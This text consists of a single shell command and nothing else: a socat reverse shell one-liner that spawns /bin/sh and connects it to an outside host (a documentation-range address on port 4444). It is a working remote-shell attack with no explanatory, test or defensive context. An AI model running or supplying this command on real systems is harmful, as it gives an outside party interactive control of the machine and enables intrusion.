socat EXEC:/bin/sh TCP4:203.0.113.10:4444
